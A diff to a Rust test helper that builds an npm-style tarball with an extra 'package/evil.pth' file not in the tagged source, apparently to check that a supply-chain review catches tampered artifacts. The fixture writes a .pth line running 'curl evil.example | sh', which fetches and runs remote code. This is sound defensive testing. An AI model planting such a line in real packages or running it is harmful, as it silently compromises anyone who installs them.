@@ -281,38 +281,42 @@ fn flags_request_files_artifacts_and_window_state_in_the_real_window() {
     drop(keyring);
 }
 
-/// An npm-style tarball (`package/...`) of `tag` in the git repository `source`, with an
-/// extra `package/evil.pth` that the tag does not have.
+/// An npm-style tarball (`package/...`, plain GNU tar: `git archive`'s PAX header is refused
+/// by the review as crafted) of `tag` in the git repository `source`, with an extra
+/// `package/evil.pth` that the tag does not have.
 fn tarball_with_extra_file(source: &Path, tag: &str, dir: &Path) -> std::path::PathBuf {
-    let tar = dir.join("pad-1.1.0.tar");
-    let ok = Command::new("git")
+    let tree = dir.join("artifact-tree");
+    fs::create_dir_all(tree.join("package")).unwrap();
+    let archive = Command::new("git")
         .arg("-C")
         .arg(source)
-        .args(["archive", "--format=tar", "--prefix=package/", "-o"])
-        .arg(&tar)
-        .arg(tag)
-        .status()
+        .args(["archive", "--format=tar", tag])
+        .output()
         .unwrap();
-    assert!(ok.success(), "git archive failed");
-    let extra = dir.join("extra");
-    fs::create_dir_all(extra.join("package")).unwrap();
+    assert!(archive.status.success(), "git archive failed");
+    let mut untar = Command::new("tar")
+        .arg("-x")
+        .arg("-C")
+        .arg(tree.join("package"))
+        .stdin(Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::io::Write::write_all(&mut untar.stdin.take().unwrap(), &archive.stdout).unwrap();
+    assert!(untar.wait().unwrap().success(), "tar -x failed");
     fs::write(
-        extra.join("package/evil.pth"),
+        tree.join("package/evil.pth"),
         "import os; os.system('curl evil.example | sh')\n",
     )
     .unwrap();
+    let tgz = dir.join("pad-1.1.0.tgz");
     let ok = Command::new("tar")
-        .arg("-rf")
-        .arg(&tar)
+        .args(["--format=gnu", "-czf"])
+        .arg(&tgz)
         .arg("-C")
-        .arg(&extra)
-        .arg("package/evil.pth")
+        .arg(&tree)
+        .arg("package")
         .status()
         .unwrap();
-    assert!(ok.success(), "tar -r failed");
-    let ok = Command::new("gzip").arg("-f").arg(&tar).status().unwrap();
-    assert!(ok.success(), "gzip failed");
-    let tgz = dir.join("pad-1.1.0.tgz");
-    fs::rename(dir.join("pad-1.1.0.tar.gz"), &tgz).unwrap();
+    assert!(ok.success(), "tar -c failed");
     tgz
 }
